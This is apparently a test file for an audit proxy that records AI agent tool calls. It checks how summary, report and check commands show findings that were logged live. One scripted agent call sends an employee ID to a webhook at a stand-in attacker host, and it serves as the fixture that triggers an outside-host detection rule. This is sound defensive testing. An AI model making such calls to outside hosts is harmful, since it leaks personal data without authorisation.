/**
 * Logged `finding` events in `summary`, `report` and `check`: a finding
 * the proxy logged live and found again from the log is shown once (with
 * the seq of its finding event), and a live finding whose rule is not run
 * offline (the plugin is not in the config) is shown as logged.
 *
 * @module
 */
import assert from "node:assert/strict";
import type { AuditEvent } from "../../lib/audit/event.ts";
import { findFindings } from "../../lib/findings/find_findings.ts";
import { BUILTIN_RULES } from "../../lib/findings/builtin_rules.ts";
import outsideHost from "../../examples/plugins/outside_host.ts";
import { cliArgs, tempDir } from "../_helpers.ts";
import {
  FINDINGS_CONFIG,
  recordSession,
  type ScriptedTool,
  structured,
} from "./_proxy_session.ts";

const PLUGIN = new URL(
  "../../examples/plugins/outside_host.ts",
  import.meta.url,
).pathname;

const TOOLS: ScriptedTool[] = [
  { name: "get_employee", result: structured({ id: "E001", name: "Ada" }) },
  { name: "delete_employee" },
  { name: "update_employee" },
  { name: "send_webhook" },
];

const CALLS = [
  { tool: "get_employee", arguments: { id: "E001" } },
  { tool: "delete_employee", arguments: { id: "E001" } },
  { tool: "update_employee", arguments: { id: "E001", status: "left" } },
  {
    tool: "send_webhook",
    arguments: { url: "https://attacker.test/in", body: "E001" },
  },
];

const POLICY = {
  mode: "enforce",
  rules: [{ id: "no-delete", tool: "delete_*", action: "deny", reason: "HR" }],
};

const WITH_PLUGIN = {
  ...FINDINGS_CONFIG,
  plugins: [
    ...FINDINGS_CONFIG.plugins,
    { use: PLUGIN, options: { domains: ["example.com"] } },
  ],
  policy: POLICY,
};

async function cli(
  args: string[],
): Promise<{ code: number; out: string; err: string }> {
  const o = await new Deno.Command(Deno.execPath(), {
    args: cliArgs(args),
    stdin: "null",
    stdout: "piped",
    stderr: "piped",
  }).output();
  return {
    code: o.code,
    out: new TextDecoder().decode(o.stdout),
    err: new TextDecoder().decode(o.stderr),
  };
}

interface Shown {
  rule: string;
  severity: string;
  seqs: number[];
  loggedSeq?: number;
  loggedOnly?: boolean;
}

async function summaryFindings(log: string, config: string): Promise<Shown[]> {
  const r = await cli(["summary", log, "--json", "--config", config]);
  assert.equal(r.code, 0, r.err);
  return JSON.parse(r.out)[0].findings;
}

function key(f: { rule: string; severity: string; seqs: number[] }): string {
  return `${f.rule} ${f.severity} ${f.seqs.join(",")}`;
}

Deno.test("logged findings: summary, report and check show a live finding found again once, and one whose plugin is not loaded as logged", async () => {
  await using dir = await tempDir();
  const log = `${dir.path}/live.jsonl`;
  const withPlugin = `${dir.path}/plugin.json`;
  const plain = `${dir.path}/plain.json`;
  await Deno.writeTextFile(withPlugin, JSON.stringify(WITH_PLUGIN));
  await Deno.writeTextFile(
    plain,
    JSON.stringify({ ...FINDINGS_CONFIG, policy: POLICY }),
  );
  const events: AuditEvent[] = await recordSession(TOOLS, CALLS, log, {
    ...WITH_PLUGIN,
    liveFindings: true,
  });
  const logged = events.filter((e) => e.kind === "finding");
  const loggedRules = new Set(
    logged.map((e) => e.kind === "finding" && e.rule),
  );
  for (const rule of ["write-after-denial", "outside-host"]) {
    assert.ok(loggedRules.has(rule), `${rule} was not logged live`);
  }
  const outside = logged.find((e) =>
    e.kind === "finding" && e.rule === "outside-host"
  )!;

  // With the plugin: exactly the findings the rules find, none twice.
  const computed = findFindings(events, {
    rules: [...BUILTIN_RULES, ...outsideHost.findings!],
    logged: false,
  });
  const shown = await summaryFindings(log, withPlugin);
  assert.deepEqual(shown.map(key).sort(), computed.map(key).sort());
  assert.equal(
    shown.find((f) => f.rule === "outside-host")?.loggedSeq,
    outside.seq,
  );
  assert.ok(shown.every((f) => !f.loggedOnly), JSON.stringify(shown));
  for (const e of logged) {
    if (e.kind !== "finding") continue;
    assert.ok(
      shown.some((f) => f.loggedSeq === e.seq) ||
        shown.some((f) =>
          f.rule === e.rule && e.seqs.every((s) => f.seqs.includes(s))
        ),
      `logged finding ${e.seq} (${e.rule}) is not shown`,
    );
  }

  // Without the plugin: the built-ins' findings once, and the plugin's as logged.
  const builtin = findFindings(events, { logged: false });
  const plainShown = await summaryFindings(log, plain);
  assert.deepEqual(
    plainShown.filter((f) => !f.loggedOnly).map(key).sort(),
    builtin.map(key).sort(),
  );
  const only = plainShown.filter((f) => f.loggedOnly);
  assert.deepEqual(only.map((f) => [f.rule, f.loggedSeq]), [[
    "outside-host",
    outside.seq,
  ]]);
  const text = await cli(["summary", log, "--config", plain]);
  assert.match(
    text.out,
    new RegExp(
      `high {3}outside-host: send_webhook sent to attacker\\.test.*; as logged live at seq ${outside.seq}\\)`,
    ),
  );

  // The report lists the same findings, the plugin's one marked as logged.
  const html = `${dir.path}/r.html`;
  const report = await cli(["report", log, "-o", html, "--config", plain]);
  assert.equal(report.code, 0, report.err);
  const page = await Deno.readTextFile(html);
  assert.match(page, new RegExp(`data-findings="${plainShown.length}"`));
  assert.equal(page.match(/data-rule="outside-host"/g)?.length, 1);
  assert.match(
    page,
    new RegExp(`logged live at seq ${outside.seq}; its rule is not run here`),
  );

  // check gates on the logged finding's severity without the plugin.
  const gate = await cli([
    "check",
    log,
    "--fail-on",
    "finding:high",
    "--config",
    plain,
  ]);
  assert.equal(gate.code, 1, gate.out + gate.err);
  assert.match(gate.out, /high outside-host: send_webhook sent to attacker/);

  // ...and on its rule id, which only the logged finding names.
  const byRule = await cli([
    "check",
    log,
    "--fail-on",
    "finding:outside-host",
    "--config",
    plain,
  ]);
  assert.equal(byRule.code, 1, byRule.out + byRule.err);
  assert.match(byRule.out, /high outside-host: send_webhook sent to attacker/);
  // A rule id that neither a loaded rule nor the log names stays a usage error.
  const unknown = await cli([
    "check",
    log,
    "--fail-on",
    "finding:outside-hots",
    "--config",
    plain,
  ]);
  assert.equal(unknown.code, 2, unknown.out + unknown.err);
  assert.match(
    unknown.err,
    /Unknown finding in --fail-on rule "finding:outside-hots"/,
  );
});

Deno.test("logged findings: a session recorded without live findings shows no finding as logged", async () => {
  await using dir = await tempDir();
  const log = `${dir.path}/off.jsonl`;
  const plain = `${dir.path}/plain.json`;
  await Deno.writeTextFile(
    plain,
    JSON.stringify({ ...FINDINGS_CONFIG, policy: POLICY }),
  );
  await recordSession(TOOLS, CALLS, log, {
    ...FINDINGS_CONFIG,
    policy: POLICY,
  });
  const shown = await summaryFindings(log, plain);
  assert.ok(shown.length > 0);
  assert.ok(
    shown.every((f) => f.loggedSeq === undefined && !f.loggedOnly),
    JSON.stringify(shown),
  );
  // No finding event names the plugin's rule: gating on it is a usage error.
  const gate = await cli([
    "check",
    log,
    "--fail-on",
    "finding:outside-host",
    "--config",
    plain,
  ]);
  assert.equal(gate.code, 2, gate.out + gate.err);
  assert.match(
    gate.err,
    /Unknown finding in --fail-on rule "finding:outside-host"/,
  );
});
